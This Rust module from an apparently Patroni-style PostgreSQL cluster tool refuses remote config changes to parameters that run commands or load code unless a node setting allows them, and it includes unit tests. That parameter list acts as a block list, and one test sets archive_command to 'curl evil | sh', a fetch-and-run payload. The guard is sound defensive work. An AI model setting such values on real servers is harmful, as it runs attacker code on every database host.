//! PostgreSQL parameters that run commands or load code, and the node-level setting
//! `postgresql.allow_command_parameters` that decides whether the cluster config may change them
//! through the REST API (`PATCH`/`PUT /config`) or `shieldctl edit-config`.
//!
//! Why refuse by default: whoever can change `archive_command` runs programs as the database's OS
//! user on every node, and whoever can change `shared_preload_libraries` loads code into every
//! server. Those are the keys to the hosts, not database tuning, so a REST credential or a
//! shieldctl config alone should not hand them out. The refusal covers changes only: a value
//! already in the DCS (a Patroni-born cluster's `archive_command`, say) is applied and kept as it
//! is, a change that leaves it alone goes through, and removing one is allowed. The node's own
//! file (`postgresql.parameters`, `bootstrap.dcs`) is the operator's and is never filtered.

use std::collections::BTreeSet;

use serde_json::Value;

/// The parameters that run a command or load a library (PostgreSQL 15; names are compared
/// without case, as PostgreSQL does).
pub const COMMAND_PARAMETERS: &[&str] = &[
    "archive_command",
    "archive_library",
    "restore_command",
    "archive_cleanup_command",
    "recovery_end_command",
    "ssl_passphrase_command",
    "shared_preload_libraries",
    "session_preload_libraries",
    "local_preload_libraries",
    "dynamic_library_path",
    "jit_provider",
];

/// `postgresql.allow_command_parameters`: `false` (the default), `true`, or a list of the
/// command parameters that may be changed.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub enum CommandParams {
    /// None may be changed remotely.
    #[default]
    Refuse,
    /// Any may be.
    AllowAll,
    /// These may be (lower case).
    Allow(BTreeSet<String>),
}

impl CommandParams {
    /// Reads the YAML value; the error names what is wrong.
    pub fn from_yaml(v: &serde_yaml_ng::Value) -> Result<CommandParams, String> {
        use serde_yaml_ng::Value as Y;
        match v {
            Y::Null | Y::Bool(false) => Ok(CommandParams::Refuse),
            Y::Bool(true) => Ok(CommandParams::AllowAll),
            Y::Sequence(items) => {
                let mut names = BTreeSet::new();
                for item in items {
                    let Some(name) = item.as_str() else {
                        return Err(format!("`postgresql.allow_command_parameters`: {item:?} is not a parameter name"));
                    };
                    let name = name.trim().to_ascii_lowercase();
                    if !COMMAND_PARAMETERS.contains(&name.as_str()) {
                        return Err(format!(
                            "`postgresql.allow_command_parameters`: {name:?} is not one of the parameters it governs ({})",
                            COMMAND_PARAMETERS.join(", ")
                        ));
                    }
                    names.insert(name);
                }
                Ok(CommandParams::Allow(names))
            }
            other => Err(format!(
                "`postgresql.allow_command_parameters` must be true, false or a list of parameter names, not {other:?}"
            )),
        }
    }

    fn allows(&self, name: &str) -> bool {
        match self {
            CommandParams::Refuse => false,
            CommandParams::AllowAll => true,
            CommandParams::Allow(names) => names.contains(name),
        }
    }
}

/// The command parameters under `postgresql.parameters`, by lower-case name.
fn command_values(config: &Value) -> Vec<(String, &Value)> {
    let Some(params) = config.get("postgresql").and_then(|p| p.get("parameters")).and_then(Value::as_object) else {
        return Vec::new();
    };
    params
        .iter()
        .map(|(k, v)| (k.to_ascii_lowercase(), v))
        .filter(|(k, v)| COMMAND_PARAMETERS.contains(&k.as_str()) && !v.is_null())
        .collect()
}

/// The refusal of a config change from `old` to `new`, if it sets a command parameter to a new
/// value that `allow` does not allow; the message names the parameters and the setting.
pub fn refusal(old: &Value, new: &Value, allow: &CommandParams) -> Option<String> {
    let before = command_values(old);
    let mut refused: Vec<String> = command_values(new)
        .into_iter()
        .filter(|(k, v)| !allow.allows(k) && !before.iter().any(|(bk, bv)| bk == k && bv == v))
        .map(|(k, _)| k)
        .collect();
    refused.sort();
    refused.dedup();
    if refused.is_empty() {
        return None;
    }
    Some(format!(
        "refusing to change {}: parameters that run commands or load code are changed only where the node's \
         `postgresql.allow_command_parameters` allows it (set it in the node's config file, or put the value in \
         the node's own `postgresql.parameters`)",
        refused.join(", ")
    ))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn cfg(params: Value) -> Value {
        json!({"ttl": 30, "postgresql": {"parameters": params}})
    }

    #[test]
    fn new_or_changed_command_parameters_are_refused_by_default() {
        let old = cfg(json!({"archive_command": "cp %p /arch/%f", "work_mem": "4MB"}));
        let same = cfg(json!({"archive_command": "cp %p /arch/%f", "work_mem": "8MB"}));
        assert_eq!(refusal(&old, &same, &CommandParams::Refuse), None, "an unchanged value passes");
        let changed = cfg(json!({"archive_command": "curl evil | sh"}));
        let why = refusal(&old, &changed, &CommandParams::Refuse).expect("refused");
        assert!(why.contains("archive_command") && why.contains("allow_command_parameters"), "{why}");
        let added = cfg(json!({"Shared_Preload_Libraries": "evil", "archive_command": "cp %p /arch/%f"}));
        let why = refusal(&old, &added, &CommandParams::Refuse).expect("refused");
        assert!(why.contains("shared_preload_libraries"), "names compare without case: {why}");
        let removed = cfg(json!({"archive_command": null}));
        assert_eq!(refusal(&old, &removed, &CommandParams::Refuse), None, "removing one is allowed");
        assert_eq!(refusal(&old, &json!({}), &CommandParams::Refuse), None);
    }

    #[test]
    fn the_setting_allows_all_or_the_named_ones() {
        let old = cfg(json!({}));
        let new = cfg(json!({"archive_command": "x", "restore_command": "y"}));
        assert_eq!(refusal(&old, &new, &CommandParams::AllowAll), None);
        let some = CommandParams::Allow(["archive_command".to_owned()].into());
        let why = refusal(&old, &new, &some).expect("restore_command is not allowed");
        assert!(why.contains("restore_command") && !why.contains("archive_command,"), "{why}");
    }

    #[test]
    fn the_setting_parses_booleans_and_lists_and_names_bad_values() {
        let y = |s: &str| serde_yaml_ng::from_str::<serde_yaml_ng::Value>(s).expect("yaml");
        assert_eq!(CommandParams::from_yaml(&y("false")), Ok(CommandParams::Refuse));
        assert_eq!(CommandParams::from_yaml(&y("true")), Ok(CommandParams::AllowAll));
        assert_eq!(
            CommandParams::from_yaml(&y("[Archive_Command]")),
            Ok(CommandParams::Allow(["archive_command".to_owned()].into()))
        );
        assert!(CommandParams::from_yaml(&y("[work_mem]")).expect_err("not governed").contains("work_mem"));
        assert!(CommandParams::from_yaml(&y("yes please")).is_err());
    }
}
